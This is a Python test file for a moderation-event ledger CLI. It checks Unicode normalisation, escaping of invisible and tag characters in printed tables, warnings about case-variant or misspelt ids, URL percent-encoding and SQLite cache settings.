    store.ok("append", "--actor", "Jose\u0301", "-", input=jsonl(
        ev("account_removed", "2024-02-01", account="x:n1", policy=composed),
        ev("account_removed", "2024-02-01", account="x:n2", policy=combining),
    ))  # fmt: skip
    counts = json.loads(store.ok("counts", "--by", "policy", "--json").stdout)
    assert [(row["policy"], row["count"]) for row in counts if row["policy"]] == [(composed, 2)]
    for policy in (composed, combining):
        assert len(store.timeline("--policy", policy)) == 2
    for actor in ("Jos\u00e9", "Jose\u0301"):
        assert {row["actor"] for row in store.timeline("--actor", actor)} == {"Jos\u00e9"}
    assert "Poli\u0301tica" not in store.ok("export", "--nl").stdout


def test_a_cut_cell_never_ends_in_part_of_an_escape() -> None:
    """ux19: cut at 60, "\\u180e" showed as "\\u180…", which reads as U+0180."""
    from cli.output import MAX_CELL, _fit

    for at in range(MAX_CELL - 8, MAX_CELL + 2):
        for hidden in ("\u180e", "\x1b", "\n"):
            text = "a" * at + hidden + "b" * 10
            shown = _fit(text)
            assert len(shown) <= MAX_CELL
            # Whole escapes only: what a backslash starts is one of them, or the cut.
            for _, escape in re.findall(r"(\\)([^\\]*)", shown):
                assert escape.startswith(("u180e", "x1b", "n")), shown


def test_a_cut_value_in_a_message_never_ends_in_part_of_an_escape() -> None:
    """rv30: as ux19's cells, a refused id cut at 100 showed its hidden character as
    "\\u18…" or "\\u20…": the very character it was refused for, unreadable."""
    from ledger.vocabulary import MAX_QUOTED, quoted

    for at in range(MAX_QUOTED - 14, MAX_QUOTED + 2):
        for hidden in ("\u180e", "\x1b", "\n", "\U000e0041", "\\"):
            shown = quoted("x:" + "a" * at + hidden + "b" * 10)
            cut = shown.rsplit("…", 1)[0]
            for escape in re.findall(r"\\(\\|x..|u....|U........|n|.)", cut):
                assert escape in ("\\", "x1b", "u180e", "U000e0041", "n"), shown


def test_tables_show_zero_width_characters_escaped_but_keep_joiners() -> None:
    """Two policies, one with a zero-width space, printed alike in `counts`; the
    joiners Persian spelling needs stay as they are."""
    from cli.output import printable

    assert printable("Hate\u200bful\u2060 con\ufeffduct\u180e") == (
        "Hate\\u200bful\\u2060 con\\ufeffduct\\u180e"
    )
    assert printable("\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645") == (
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    )
    # Where they shape nothing they are escaped too (an id an older version took).
    assert printable("tw:a\u200db \u200cx") == "tw:a\\u200db \\u200cx"
    # An emoji sequence keeps its joiners (rv29: 👨‍👩‍👧 was shown as 👨\u200d👩\u200d👧).
    assert printable("Family \U0001f468\u200d\U0001f469\u200d\U0001f467") == (
        "Family \U0001f468\u200d\U0001f469\u200d\U0001f467"
    )
    # rv31: idna's CONTEXTJ check raised on a text over 1,024 characters and after a
    # character Python has no name for (private use, Tangut): the table failed.
    long_name = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 " + "x" * 1100
    assert printable(long_name) == long_name
    assert printable("\uf8ff\u200d \U00017000\u200c") == "\uf8ff\\u200d \U00017000\\u200c"
    # Bengali র‍্য keeps its ZWJ (before the virama: a ya-phala, not a reph).
    assert printable("\u09b0\u200d\u09cd\u09af") == "\u09b0\u200d\u09cd\u09af"
    # au21: what prints as nothing or a blank though it is no space (fillers, the
    # grapheme joiner, invisible operators, annotation marks, the braille blank).
    for hidden in "\u034f\u115f\u1160\u17b4\u17b5\u2061\u2064\u2800\u3164\uffa0\ufff9\ufffb":
        assert printable(f"p{hidden}q") == f"p\\u{ord(hidden):04x}q"


def test_tables_escape_tag_characters_and_other_invisible_format_controls(
    store: Store,
) -> None:
    """rv37: after au21, tag characters (which spell hidden ASCII: "IGNORE" in a
    policy), the deprecated shaping controls and the shorthand and musical format
    controls still printed as nothing in a table; a flag spelt with tags stays a flag."""
    from cli.output import MAX_CELL, _fit, printable

    hidden = "".join(chr(0xE0000 + ord(c)) for c in "IGNORE")
    store.append(account("twitter:acc", "2020-01-01"))
    store.append(
        ev("account_suspended", "2021-01-01", account="twitter:acc", policy=f"Spam{hidden}")
    )
    assert "Spam\\U000e0049\\U000e0047\\U000e004e" in store.ok("timeline").stdout
    assert printable("p\u206aq\u206f") == "p\\u206aq\\u206f"
    assert printable("p\U0001bca0q\U0001d173") == "p\\U0001bca0q\\U0001d173"
    assert printable("p\U000e0001q") == "p\\U000e0001q"
    england = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"
    assert printable(f"{england} fans") == f"{england} fans"
    # Tags that make no flag: no black flag before, no cancel tag after.
    assert printable("a\U000e0067\U000e007f") == "a\\U000e0067\\U000e007f"
    assert printable("\U0001f3f4\U000e0067 x") == "\U0001f3f4\\U000e0067 x"
    # Cut at 60, a long escape is whole or gone.
    for at in range(MAX_CELL - 12, MAX_CELL + 1):
        shown = _fit("a" * at + "\U000e0041" + "b" * 10)
        assert "\\" not in shown.replace("\\U000e0041", ""), shown


def test_tables_keep_a_grapheme_joiner_that_keeps_two_marks_apart() -> None:
    """rv37: au21 escaped every grapheme joiner, also Biblical Hebrew's, which keeps
    patah before hiriq (canonical ordering would swap them): a quotation of a verse
    showed `\\u034f` inside the word. It is escaped where it keeps nothing apart."""
    from cli.output import printable

    jerusalem = "\u05d9\u05b0\u05e8\u05d5\u05bc\u05e9\u05c1\u05b8\u05dc\u05b7\u034f\u05b4\u05dd"
    assert printable(jerusalem) == jerusalem
    # Between marks already in canonical order, between letters, at either end.
    assert printable("\u05b4\u034f\u05b7") == "\u05b4\\u034f\u05b7"
    assert printable("p\u034fq") == "p\\u034fq"
    assert printable("\u05b7\u034f") == "\u05b7\\u034f"
    assert printable("\u034f\u05b4") == "\\u034f\u05b4"


def test_tables_double_a_stored_backslash_so_text_spelling_an_escape_is_told_apart(
    store: Store,
) -> None:
    """rv30: a policy stored as the six characters `\\u200b` printed exactly as one
    holding a zero-width space: two different policies looked the same in a table."""
    from cli.output import _fit, printable

    assert printable("Hate\\u200bful") == "Hate\\\\u200bful"
    assert printable("Hate\u200bful") == "Hate\\u200bful"
    assert printable("x\\\n") == "x\\\\\\n"  # a backslash, then a line break
    # A cut never splits a doubled backslash into a lone one.
    assert _fit("a" * 58 + "\\bc") == "a" * 58 + "…"
    assert _fit("a" * 57 + "\\bcd") == "a" * 57 + "\\\\" + "…"
    store.append(account("twitter:a", "2020-01-01"))
    for n, policy in enumerate(("Hate\\u200bful", "Hate\u200bful")):
        store.append(
            ev("account_suspended", f"2021-01-0{n + 1}", account="twitter:a", policy=policy)
        )
        store.append(ev("account_reinstated", f"2021-01-0{n + 1}T12:00:00Z", account="twitter:a"))
    table = store.ok("counts", "--by", "policy").stdout
    assert "Hate\\\\u200bful " in table, table  # stored: a backslash, then u200b
    assert "Hate\\u200bful " in table, table  # stored: a zero-width space


def test_a_registration_likely_misspelling_an_id_the_ledger_holds_is_warned_of(
    store: Store,
) -> None:
    """The rules take `Khamenei` or `twiter` as new ids, and only readers were told
    "did you mean": the data was split unseen (two subjects, a second platform)."""
    store.ok("append", str(REPO / "ledger" / "data" / "seed.jsonl"))
    common = ("--occurred-at", "2024-03-01", "--source", "s")
    subject_args = ("--name", "Ali Khamenei", "--kind", "person", *common)
    again = store.ok(
        "record", "subject-registered", "--subject", "Khamenei", *subject_args, "--event-id", "k2"
    )
    assert again.stderr == (
        "warning: subject 'Khamenei' (k2) is new, and the ledger holds 'khamenei', the same "
        "in other letter case; if it is that one, retract this registration and use it\n"
    )
    typo = ("--account", "twiter:foo", "--platform", "twiter", "--handle", "foo", *common)
    dry = store.ok("record", "account-registered", *typo, "--dry-run")
    assert dry.stderr == (  # a dry run's made-up event_id is not named, nor a retraction
        "warning: platform 'twiter' (account 'twiter:foo') is new, and the ledger holds "
        "'twitter'; a typo? If so, give it there\n"
    )
    lines = [
        account("twitter:Khamenei_IR", "2024-03-01T00:00:00Z", event_id="kir"),
        account("mastodon:someone", "2024-03-01T00:00:00Z", event_id="m"),
    ]
    batch = store.ok("append", "-", input="".join(jsonl(line) for line in lines))
    assert batch.stderr == (
        "warning: account 'twitter:Khamenei_IR' (kir) is new, and the ledger holds "
        "'twitter:khamenei_ir', the same in other letter case; if it is that one, retract "
        "this registration and use it\n"
    )
    # Once in, the platform and ids are the ledger's own: no second warning.
    assert store.ok("record", "account-registered", *typo).stderr.startswith("warning: ")
    typo_two = ("--account", "twiter:bar", "--platform", "twiter", "--handle", "bar", *common)
    assert store.ok("record", "account-registered", *typo_two).stderr == ""
    # The fix the warning asks for: the wrong spelling retracted, the right one
    # registered. It said to use the retracted one (which nothing may name).
    wrong = subject("Someone", "2024-03-01T00:00:00Z", event_id="wrong")
    store.ok("append", "-", input=jsonl(wrong))
    fixed = [
        ev("event_retracted", "2024-03-02", target="wrong", reason="case", event_id="fix"),
        subject("someone", "2024-03-01T00:00:00Z", event_id="right"),
    ]
    assert store.ok("append", "-", input="".join(jsonl(e) for e in fixed)).stderr == ""
    # Nor is a registration retracted in its own batch warned of.
    undone = [
        subject("SOMEONE", "2024-03-01T00:00:00Z", event_id="again"),
        ev("event_retracted", "2024-03-02", target="again", reason="case", event_id="undo"),
    ]
    assert store.ok("append", "-", input="".join(jsonl(e) for e in undone)).stderr == ""


def test_two_spellings_of_one_new_id_in_one_batch_are_warned_of(store: Store) -> None:
    """Only a new id against a held one was warned of: `khamenei` and `Khamenei`
    registered in one batch split the data unseen."""
    lines = [
        subject("khamenei", "2024-03-01T00:00:00Z", event_id="k1"),
        subject("Khamenei", "2024-03-01T00:00:00Z", event_id="k2"),
        account("twitter:jack", "2024-03-01T00:00:00Z", event_id="a1"),
        account("twitter:Jack", "2024-03-01T00:00:00Z", event_id="a2"),
        account("mastodon:Jack", "2024-03-01T00:00:00Z", event_id="a3"),  # another platform
    ]
    dry = store.ok("append", "-", "--dry-run", input=jsonl(*lines))
    assert dry.stderr == (
        "warning: subject 'Khamenei' is new, and this batch also registers 'khamenei', the "
        "same in other letter case; if it is that one, give it instead\n"
        "warning: account 'twitter:Jack' is new, and this batch also registers "
        "'twitter:jack', the same in other letter case; if it is that one, give it instead\n"
    )
    batch = store.ok("append", "-", input=jsonl(*lines))
    assert batch.stderr == (
        "warning: subject 'Khamenei' (k2) is new, and this batch also registers 'khamenei', "
        "the same in other letter case; if it is that one, retract this registration and "
        "use it\n"
        "warning: account 'twitter:Jack' (a2) is new, and this batch also registers "
        "'twitter:jack', the same in other letter case; if it is that one, retract this "
        "registration and use it\n"
    )


def test_a_batch_of_more_registrations_than_are_compared_says_the_rest_were_not(
    store: Store,
) -> None:
    """Only the batch's first 20 registrations are compared: past them, a misspelling
    went unsaid, and nothing said the check had stopped."""
    from ledger.application import REGISTRATIONS_LISTED

    first = [subject(f"s{n}", "2024-03-01T00:00:00Z") for n in range(REGISTRATIONS_LISTED)]
    assert store.ok("append", "-", input=jsonl(*first)).stderr == ""  # all compared
    more = [subject(f"t{n}", "2024-03-01T00:00:00Z") for n in range(REGISTRATIONS_LISTED + 3)]
    note = (
        f"note: only the batch's first {REGISTRATIONS_LISTED} registrations were compared "
        "with the ledger's ids for misspellings; its other 3 were not\n"
    )
    assert store.ok("append", "-", "--dry-run", input=jsonl(*more)).stderr == note
    # Said once, after the warnings of those compared.
    misspelt = [subject("S0", "2024-03-01T00:00:00Z", event_id="S0"), *more]
    assert store.ok("append", "-", input=jsonl(*misspelt)).stderr == (
        "warning: subject 'S0' (S0) is new, and the ledger holds 's0', the same in other "
        "letter case; if it is that one, retract this registration and use it\n"
        + note.replace("other 3", "other 4")
    )


def test_a_store_url_printed_back_percent_encodes_the_user_and_database_names() -> None:
    """pg21: a user named with @ or : (an e-mail address, a cloud provider's
    ``user@server``) was printed back as given, in "Created ledger at …" and every
    message naming the store: pasted again, ':' began a password and '/' the path."""
    from ledger.location import StoreLocation

    url = "postgresql://ops%40example.org%3Aa%2Fb@h:5432/d%2F1%3Fx?schema=s"
    location = StoreLocation.parse(url)
    assert (location.user, location.dbname) == ("ops@example.org:a/b", "d/1?x")
    assert location.display == url
    again = StoreLocation.parse(location.display)
    assert (again.user, again.host, again.dbname) == ("ops@example.org:a/b", "h", "d/1?x")


def test_a_read_command_answers_with_a_small_page_cache(tmp_path: Path) -> None:
    """rs19: read connections took the 64 MiB page cache appends want, and SQLite sizes
    each sort by it: `counts` by six fields peaked at 228 MB at 1M events (54 MB now)."""
    from cli.main import Session
    from tests.ledger_helpers import SEED

    store = Store(str(tmp_path / "ledger.db"), "sqlite", tmp_path)
    store.ok("init")
    store.ok("append", str(SEED))
    session = Session(store.url)
    try:
        assert session.reader().one("PRAGMA cache_size") == (-8192,)
        # Appends keep theirs.
        with session.ledger().storage.connect() as db:
            assert db.one("PRAGMA cache_size") == (-65536,)
    finally:
        session.close()
